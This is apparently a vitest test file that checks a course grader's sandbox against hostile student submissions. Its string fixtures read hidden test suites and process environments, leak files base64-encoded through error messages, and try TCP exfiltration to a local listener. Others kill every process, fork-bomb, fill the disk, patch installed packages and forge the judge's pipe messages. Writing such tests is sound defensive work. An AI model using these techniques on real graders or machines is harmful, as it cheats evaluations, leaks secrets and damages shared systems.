import { spawn } from "node:child_process";
import { once } from "node:events";
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import os from "node:os";
import { gzipSync } from "node:zlib";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { grade } from "../../grader/grade.ts";
import { probeSandbox } from "../../grader/pipeline/submission-process.ts";
import type { GradeReport } from "../../grader/report/types.ts";
import { runCli } from "./support/cli.ts";
import { courseRoot } from "./support/course.ts";
import { codePoints as moduleCodePoints } from "./support/fixture-expectations.ts";

// Attacks that only the sandbox stops, each written as a student who has read
// the grader's source would write it. Each one is a correct TaskQueue with
// hostile code around it, so its honest score is known, and each checks the
// harm it tried to do did not happen. Some of them (signalling every process,
// filling the disk) would do real damage unsandboxed, so they run only where
// bubblewrap can start; CI installs it, so there they always run.

const sandbox = probeSandbox();
const correctQueue = `
export class TaskQueue<T = unknown> {
  private tasks: (T | undefined)[] = [];
  private head = 0;
  enqueue(task: T): void {
    this.tasks.push(task);
  }
  dequeue(): T | null {
    if (this.head === this.tasks.length) return null;
    const task = this.tasks[this.head] as T;
    this.tasks[this.head] = undefined;
    this.head += 1;
    if (this.head * 2 > this.tasks.length) {
      this.tasks = this.tasks.slice(this.head);
      this.head = 0;
    }
    return task;
  }
  size(): number {
    return this.tasks.length - this.head;
  }
}
`;
/** What correct code of module 01 earns with no quiz answered. */
const fullCodePoints = moduleCodePoints("01-task-queue");

let scratch = "";
beforeAll(() => {
  scratch = mkdtempSync(path.join(os.tmpdir(), "mq-sandbox-test-"));
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Writes a submission whose module 01 is `source`, plus other modules' reference solutions if asked. */
function submission(name: string, source: string, alsoSolved: string[] = []): string {
  const dir = path.join(scratch, name);
  mkdirSync(path.join(dir, "exercises", "01-task-queue"), { recursive: true });
  writeFileSync(path.join(dir, "exercises", "01-task-queue", "task-queue.ts"), source);
  for (const id of alsoSolved) cpSync(path.join(courseRoot, "solutions", id), path.join(dir, "exercises", id), { recursive: true });
  return dir;
}

function codePoints(report: GradeReport, id: string): number {
  const module = report.modules.find((entry) => entry.id === id);
  return (module?.tests ?? []).filter((entry) => entry.kind !== "quiz").reduce((sum, entry) => sum + entry.score, 0);
}

function messages(report: GradeReport): string {
  return report.modules.flatMap((module) => [module.problem ?? "", ...module.tests.map((entry) => entry.message ?? "")]).join("\n");
}

/** Command lines of every process on this machine that mentions `marker` (Linux: read from /proc). */
function processesWith(marker: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync("/proc").filter((entry) => /^\d+$/.test(entry))) {
    try {
      const commandLine = readFileSync(`/proc/${pid}/cmdline`, "latin1").replaceAll("\0", " ");
      if (commandLine.includes(marker) && !commandLine.includes("vitest")) found.push(`${pid}: ${commandLine}`);
    } catch {
      // exited meanwhile
    }
  }
  return found;
}

describe.skipIf(sandbox.isolation !== "sandbox")("the sandbox starts wherever Node lives", () => {
  test("a Node binary under the temp folder (one npm exec fetched, say) still grades in the sandbox: the sandbox's own /tmp does not hide it", async () => {
    const node = path.join(scratch, "node-under-tmp", "node");
    mkdirSync(path.dirname(node), { recursive: true });
    cpSync(realpathSync(process.execPath), node);
    chmodSync(node, 0o755);
    const dir = submission("node-under-tmp-submission", correctQueue);
    const child = spawn(node, ["--import", "tsx", "grader/cli/grade.ts", "--submission", dir, "--only", "01", "--isolation", "sandbox", "--json", path.join(dir, "report.json")], { cwd: courseRoot, env: { ...process.env, NO_COLOR: "1" } });
    let output = "";
    child.stdout.on("data", (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (output += chunk.toString()));
    const [status] = (await once(child, "close")) as [number | null];
    expect(status, output.slice(-2000)).toBe(1);
    const report = JSON.parse(readFileSync(path.join(dir, "report.json"), "utf8")) as GradeReport;
    expect(report.isolation).toBe("sandbox");
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
  }, 120_000);
});

describe.skipIf(sandbox.isolation !== "sandbox")("the sandbox stops what process separation alone cannot", () => {
  test("reading the course: solutions, hidden suites, other workspaces, and the grader's processes (whose memory holds the channel's key) are not there", async () => {
    // If any secret is readable, the queue turns into a stack and loses points.
    const source = `
import { existsSync, readdirSync, readFileSync } from "node:fs";
const secrets = [
  ${JSON.stringify(path.join(courseRoot, "solutions", "01-task-queue", "task-queue.ts"))},
  ${JSON.stringify(path.join(courseRoot, "tests", "hidden", "01-task-queue.test.ts"))},
  ${JSON.stringify(path.join(courseRoot, "node_modules", "vitest", "package.json"))},
];
let seen = secrets.some((file) => existsSync(file));
for (const entry of readdirSync("/tmp")) if (entry.startsWith("mq-")) seen = true;
for (const pid of readdirSync("/proc").filter((entry) => /^\\d+$/.test(entry))) {
  try {
    if (/vitest|MQ_JUDGE|GITHUB_/.test(readFileSync("/proc/" + pid + "/cmdline", "latin1") + readFileSync("/proc/" + pid + "/environ", "latin1"))) seen = true;
  } catch {}
}
${correctQueue.replace("if (this.head === this.tasks.length) return null;", "if (this.head === this.tasks.length) return null;\n    if (seen) return this.tasks.pop() ?? null;")}
`;
    const report = await grade({ submission: submission("read-course", source), only: "01", isolation: "sandbox" });
    expect(report.isolation).toBe("sandbox");
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
  });

  test("an encoded leak has nothing to encode: failure messages carry no part of a hidden suite", async () => {
    const hidden = path.join(courseRoot, "tests", "hidden", "01-task-queue.test.ts");
    // Gzipped and base64'd, in chunks, into the message of every failing enqueue: what the report would show.
    const source = `
import { readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
let leak = "nothing to read";
try { leak = gzipSync(readFileSync(${JSON.stringify(hidden)})).toString("base64"); } catch {}
let chunk = 0;
${correctQueue.replace("this.tasks.push(task);", 'if (task === "send welcome email") throw new Error("leak " + leak.slice(chunk++ * 200, chunk * 200));\n    this.tasks.push(task);')}
`;
    const report = await grade({ submission: submission("encoded-leak", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue")).toBe(fullCodePoints - 1);
    const shown = messages(report);
    expect(shown).toContain("leak nothing to read");
    const encoded = gzipSync(readFileSync(hidden)).toString("base64");
    expect(shown).not.toContain(encoded.slice(0, 40));
  });

  test("patching the course's packages for later runs reaches nothing: the next stub still scores 0", async () => {
    const runner = path.join(courseRoot, "node_modules", "@vitest", "runner", "dist", "index.js");
    const before = readFileSync(runner, "utf8");
    const source = `
import { appendFileSync, readdirSync } from "node:fs";
for (const target of [${JSON.stringify(runner)}, "/sandbox/node_modules/@vitest/runner/dist/index.js"]) {
  try { appendFileSync(target, "\\n// every test passes\\n"); } catch {}
}
try { for (const entry of readdirSync("/")) appendFileSync("/" + entry + "/patched", "x"); } catch {}
${correctQueue}
`;
    const report = await grade({ submission: submission("patch-packages", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
    expect(readFileSync(runner, "utf8")).toBe(before);
    const stub = await grade({ submission: submission("stub-after-patch", readFileSync(path.join(courseRoot, "exercises", "01-task-queue", "task-queue.ts"), "utf8")), only: "01", isolation: "sandbox" });
    expect(codePoints(stub, "01-task-queue")).toBe(0);
  });

  test("a TCP connection to a listener on 127.0.0.1 fails, and the listener receives nothing", async () => {
    let connections = 0;
    const server: Server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as { port: number }).port;
    const source = `
import { connect } from "node:net";
function exfiltrate(): void {
  try {
    const socket = connect(${port}, "127.0.0.1", () => socket.end("the hidden suite"));
    socket.on("error", () => {});
  } catch {}
}
exfiltrate();
let tried = false;
${correctQueue.replace("this.tasks.push(task);", "this.tasks.push(task);\n    if (!tried) exfiltrate();\n    tried = true;")}
`;
    try {
      const report = await grade({ submission: submission("network", source), only: "01", isolation: "sandbox" });
      expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
    expect(connections).toBe(0);
  });

  test("killing every process it can reach, or stopping them, harms only itself: module 02 beside it keeps full marks", async () => {
    const source = correctQueue.replace(
      "if (this.head === this.tasks.length) return null;",
      'if (this.head === this.tasks.length) {\n      for (const pid of [1, process.ppid]) try { process.kill(pid, "SIGSTOP"); } catch {}\n      try { process.kill(-1, "SIGKILL"); } catch {}\n      process.kill(process.pid, "SIGKILL");\n    }',
    );
    // What it earns is what the same queue earns when it only ends its own process there.
    const exits = correctQueue.replace("if (this.head === this.tasks.length) return null;", "if (this.head === this.tasks.length) process.exit(1);");
    const [report, exitsOnly] = await Promise.all([
      grade({ submission: submission("kill-all", source, ["02-priority-queue"]), only: "01,02", isolation: "sandbox" }),
      grade({ submission: submission("exit-only", exits), only: "01", isolation: "sandbox" }),
    ]);
    expect(codePoints(exitsOnly, "01-task-queue")).toBeLessThan(fullCodePoints);
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(codePoints(exitsOnly, "01-task-queue"));
    expect(codePoints(report, "02-priority-queue"), messages(report)).toBe(moduleCodePoints("02-priority-queue"));
  });

  test("forty threads spinning beside a classmate cost the classmate nothing: it keeps exactly the grade it gets alone", { timeout: 180_000 }, async () => {
    // Each of its processes starts forty threads that spin for five seconds.
    const spinning = `
import { Worker } from "node:worker_threads";
for (let thread = 0; thread < 40; thread++) new Worker("const end = Date.now() + 5000; while (Date.now() < end) {}", { eval: true });
${correctQueue}
`;
    const alone = await grade({ submission: submission("classmate-alone", correctQueue, ["02-priority-queue"]), only: "01,02", isolation: "sandbox" });
    const [beside] = await Promise.all([
      grade({ submission: submission("classmate", correctQueue, ["02-priority-queue"]), only: "01,02", isolation: "sandbox" }),
      grade({ submission: submission("spinning", spinning), only: "01", isolation: "sandbox" }),
    ]);
    expect(codePoints(alone, "01-task-queue") + codePoints(alone, "02-priority-queue")).toBe(fullCodePoints + moduleCodePoints("02-priority-queue"));
    for (const id of ["01-task-queue", "02-priority-queue"]) expect(codePoints(beside, id), messages(beside)).toBe(codePoints(alone, id));
    expect(beside.limits, "the report says who held the limits").not.toBeNull();
  });

  test("a process that spins on every thread gets one core: the kernel's quota holds it there, or, with no control group, the watchdog stops it", { timeout: 180_000 }, () => {
    // Seven threads spin for 1.5 s of wall time as the module loads; the first enqueue says how many cores that was.
    const spinning = `
import { Worker } from "node:worker_threads";
const spinners = Array.from({ length: 6 }, () => new Worker("for (;;) {}", { eval: true }));
const wallStarted = Date.now();
const cpuStarted = process.cpuUsage();
while (Date.now() - wallStarted < 1500) {}
const used = process.cpuUsage(cpuStarted);
const cores = (used.user + used.system) / 1000 / (Date.now() - wallStarted);
for (const spinner of spinners) void spinner.terminate();
${correctQueue.replace("this.tasks.push(task);", 'if (task === "send welcome email") throw new Error(`cores: ${cores.toFixed(2)}`);\n    this.tasks.push(task);')}
`;
    const dir = submission("one-core", spinning);
    const graded = (env: NodeJS.ProcessEnv) => {
      const json = path.join(dir, `report-${env["MQ_GRADER_CGROUPS"] ?? "on"}.json`);
      const run = runCli("grade", ["--submission", dir, "--only", "01", "--isolation", "sandbox", "--json", json], { env });
      expect(run.status, run.stderr).toBe(1);
      return JSON.parse(readFileSync(json, "utf8")) as GradeReport;
    };
    // What it measured, when it was not stopped first. On a busy machine it may get less than a core: never more than its limit.
    const cores = (report: GradeReport) => Number(/cores: ([\d.]+)/.exec(messages(report))?.[1] ?? Number.NaN);
    const kernel = graded({});
    if (kernel.limits?.cpu.startsWith("cgroup")) {
      expect(cores(kernel), messages(kernel)).not.toBeNaN();
      expect(cores(kernel), "held to its quota of one core").toBeLessThan(1.3);
    }
    // As on a machine with no control group the grader may use: the watchdog's own count stops it past one and a half cores.
    const watched = graded({ MQ_GRADER_CGROUPS: "off" });
    expect(watched.limits?.cpu).toBe("watchdog");
    if (!/used more than 1 core of CPU time/.test(messages(watched))) expect(cores(watched), messages(watched)).toBeLessThan(1.6);
  });

  test("a detached child that outlives its test is gone when grading ends, and could never touch the next submission", async () => {
    const marker = `mq-orphan-${process.pid}`;
    const source = `
import { spawn } from "node:child_process";
const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", ${JSON.stringify(marker)}], { detached: true, stdio: "ignore" });
child.unref();
${correctQueue}
`;
    const report = await grade({ submission: submission("orphan", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
    expect(processesWith(marker)).toEqual([]);
    // The next submission, graded right after, is unaffected.
    const next = await grade({ submission: submission("after-orphan", correctQueue), only: "01", isolation: "sandbox" });
    expect(codePoints(next, "01-task-queue")).toBe(fullCodePoints);
  });

  test("forged exit notices on the answer pipe change nothing, and nothing can be put beside the pipes for the judge to delete", async () => {
    // A decoy folder of the grader's machine; the old attack linked to one like it from the pipe folder, then forged an exit notice.
    const decoy = path.join(scratch, "decoy");
    mkdirSync(decoy);
    for (let index = 0; index < 200; index++) writeFileSync(path.join(decoy, `file-${index}`), "keep me");
    const source = `
import { mkdirSync, openSync, symlinkSync, writeFileSync, writeSync } from "node:fs";
// If anything can be made beside the pipes, the queue turns into a stack.
let escaped = false;
for (const make of [
  () => mkdirSync("/sandbox/pipes/folder"),
  () => symlinkSync(${JSON.stringify(decoy)}, "/sandbox/pipes/link"),
  () => writeFileSync("/sandbox/pipes/file", "x"),
]) {
  try { make(); escaped = true; } catch {}
}
const answers = openSync("/sandbox/pipes/answers", "w");
// In the first calls of each test process: a workload's million calls would fill the pipe while the judge waits for its one answer.
let forged = 0;
const forge = () => {
  if (forged++ > 50) return;
  for (const line of [
    { kind: "exit", reason: "overran its time", stderr: "" },
    { kind: "exit", reason: "exited with code 0", stderr: "" },
    { kind: "wake" },
  ]) writeSync(answers, "\\n" + JSON.stringify(line) + "\\n");
};
forge();
${correctQueue.replace("if (this.head === this.tasks.length) return null;", "forge();\n    if (this.head === this.tasks.length) return null;\n    if (escaped) return this.tasks.pop() ?? null;")}
`;
    const report = await grade({ submission: submission("forged-exit", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
    expect(readdirSync(decoy)).toHaveLength(200);
    expect(messages(report)).not.toContain(os.tmpdir() + "/mq-grade-");
  });

  test("a hidden test's inputs thrown back in an error's message, its name or a forged assertion label appear in no hidden test's message", async () => {
    const source = `
class Leak extends Error {}
let call = 0;
${correctQueue.replace("this.tasks.push(task);", `const seen = "INPUT" + JSON.stringify(task);
    call += 1;
    if (call % 3 === 0) throw new RangeError(seen);
    if (call % 3 === 1) throw new Error(seen + ": expected ");
    const named = new Leak("x");
    named.name = seen;
    throw named;`)}
`;
    const report = await grade({ submission: submission("thrown-inputs", source), only: "01", isolation: "sandbox" });
    const [module] = report.modules;
    const hidden = module?.tests.filter((entry) => entry.kind === "hidden" && entry.status !== "passed") ?? [];
    expect(hidden.length).toBeGreaterThan(10);
    for (const entry of hidden) expect(entry.message ?? "", entry.name).not.toContain("INPUT");
    // Public tests show the student's messages in full: the same code's text is there.
    expect(module?.tests.filter((entry) => entry.kind === "public").map((entry) => entry.message ?? "").join("\n")).toContain("INPUT");
  });

  test("filling the disk fills only a small private scratch folder; the rest is read-only", async () => {
    const source = `
import { writeFileSync, appendFileSync } from "node:fs";
// If more than the scratch folder's 16 MiB could be written, or anything outside it, the queue turns into a stack.
let escaped = false;
for (const [target, limit] of [["/tmp/fill", 16], ["/sandbox/fill", 0], ["/fill", 0], ["/dev/shm/fill", 0], ["/dev/fill", 0]] as const) {
  let written = 0;
  try {
    for (let chunk = 0; chunk < 64; chunk++) {
      appendFileSync(target, Buffer.alloc(1024 * 1024, 1));
      written += 1;
    }
  } catch {}
  if (written > limit) escaped = true;
}
try { writeFileSync("/sandbox/exercise/task-queue.mjs", "export {}"); escaped = true; } catch {}
${correctQueue.replace("if (this.head === this.tasks.length) return null;", "if (this.head === this.tasks.length) return null;\n    if (escaped) return this.tasks.pop() ?? null;")}
`;
    const report = await grade({ submission: submission("disk", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
  });

  test("a fork bomb and a child in its own session holding memory are stopped by the sandbox's limits", async () => {
    const bomb = correctQueue.replace(
      "this.tasks.push(task);",
      `this.tasks.push(task);
    if (task === "send welcome email") spawnSync(process.execPath, ["-e", BOMB, BOMB], { stdio: "ignore" });
    if (task === "first-only") spawnSync(process.execPath, ["-e", "const b = []; for (;;) b.push(Buffer.alloc(64 * 1024 * 1024, 1));"], { stdio: "ignore", detached: true });`,
    );
    const started = performance.now();
    // Each process starts the next and waits for it: a chain that only the process limit ends.
    const chain = `const BOMB = ${JSON.stringify("require('node:child_process').spawnSync(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore' });")};`;
    const report = await grade({ submission: submission("limits", `import { spawnSync } from "node:child_process";\n${chain}\n${bomb}`), only: "01", isolation: "sandbox" });
    // The bomb goes off in one public test and the memory in one hidden test; those two fail, the rest is graded as usual.
    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints - 2);
    expect(messages(report)).toMatch(/started more than \d+ processes/);
    expect(messages(report)).toMatch(/used more than \d+ MB of memory/);
    expect(performance.now() - started).toBeLessThan(60_000);
  });

  test("the environment holds none of the grader's, CI's or npm's variables", async () => {
    const source = correctQueue.replace("this.tasks.push(task);", 'if (task === "send welcome email") throw new Error("env: " + Object.keys(process.env).sort().join(","));\n    this.tasks.push(task);');
    const report = await grade({ submission: submission("environment", source), only: "01", isolation: "sandbox" });
    expect(codePoints(report, "01-task-queue")).toBe(fullCodePoints - 1);
    const shown = messages(report);
    expect(shown).toContain("env: HOME,LANG,NO_COLOR,PWD,TMPDIR,TZ");
    expect(shown).not.toMatch(/GITHUB_|npm_|INIT_CWD|MQ_/);
  });
});

/** Processes working in `folder` or naming it on their command line (Linux: read from /proc). */
function processesIn(folder: string): string[] {
  const found: string[] = [];
  for (const pid of readdirSync("/proc").filter((entry) => /^\d+$/.test(entry))) {
    try {
      const cwd = readlinkSync(`/proc/${pid}/cwd`);
      const commandLine = readFileSync(`/proc/${pid}/cmdline`, "latin1").replaceAll("\0", " ");
      if (cwd.startsWith(folder) || commandLine.includes(folder)) found.push(`${pid}: ${commandLine.slice(0, 120)}`);
    } catch {
      // exited meanwhile
    }
  }
  return found;
}

describe("when the grader itself is killed", () => {
  test("vitest, the judge and the submission process stop with it, and the staged hidden suites are removed", async () => {
    // A temporary folder of its own, so no other test's grading (they run side by side) is taken for this one.
    const tmp = mkdtempSync(path.join(os.tmpdir(), "mq-killed-grader-"));
    const grader = spawn(process.execPath, ["--import", "tsx", "grader/cli/grade.ts", "--solutions", "--only", "02"], { cwd: courseRoot, stdio: "ignore", env: { ...process.env, TMPDIR: tmp } });
    // Wait until this run's submission process is up, then kill the grader the hard way.
    let staged = "";
    for (let tries = 0; tries < 1200 && !staged; tries++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      const mine = readdirSync(tmp).find((entry) => entry.startsWith("mq-grade-"));
      if (mine && processesIn(path.join(tmp, mine, "02-priority-queue", "submission")).length > 0) staged = path.join(tmp, mine);
    }
    expect(staged, "the run never started").not.toBe("");
    grader.kill("SIGKILL");
    for (let tries = 0; tries < 100 && (processesIn(staged).length > 0 || existsSync(staged)); tries++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(processesIn(staged)).toEqual([]);
    expect(existsSync(staged), "the staged workspace, hidden suites included").toBe(false);
    rmSync(tmp, { recursive: true, force: true });
  }, 120_000);
});
